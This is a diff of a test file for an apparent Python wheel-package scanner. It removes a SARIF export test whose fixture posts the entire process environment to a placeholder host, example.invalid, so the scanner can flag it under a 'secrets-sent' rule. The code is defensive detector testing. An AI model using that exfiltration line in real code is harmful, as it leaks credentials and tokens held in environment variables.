@@ -29,7 +29,6 @@ from wheelmark.scan import (
 from wheelmark.scan.facts import Facts
 from wheelmark.scan.features import Features
 from wheelmark.scan.rule import Evidence
-from wheelmark.scan.sarif import to_sarif
 from wheelmark.scan.verdict import joined_score, score_of, verdict_of
 
 FIELDS = {"file", "sha256", "verdict", "score", "findings", "elapsed_ms", "ruleset", "model"}
@@ -239,19 +238,3 @@ def test_ruleset_that_would_lie_is_a_mistake(rules: tuple[Rule, ...]) -> None:
 
 def test_no_rules_at_all_never_means_clean() -> None:
     assert len([rule for rule in the_ruleset().rules if rule.state is RuleState.ENABLED]) >= 12
-
-
-def test_sarif_names_rules_places_and_gaps() -> None:
-    report = scan_import("import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))")
-    gap = replace(report, file="a file.whl", findings=(), verdict=Verdict.INCOMPLETE, incomplete_reason="too large")
-    log = json.loads(to_sarif([report, gap], the_ruleset().rules, "1"))
-    run = log["runs"][0]
-    assert log["version"] == "2.1.0"
-    result = run["results"][0]
-    assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"] == "secrets-sent"
-    place = result["locations"][0]["physicalLocation"]
-    assert place["artifactLocation"]["uri"] == "widget-1-py3-none-any.whl/widget/__init__.py"
-    assert place["region"]["startLine"] == 2
-    assert result["level"] == "error"
-    assert run["invocations"][0]["executionSuccessful"] is False
-    assert "too large" in run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]
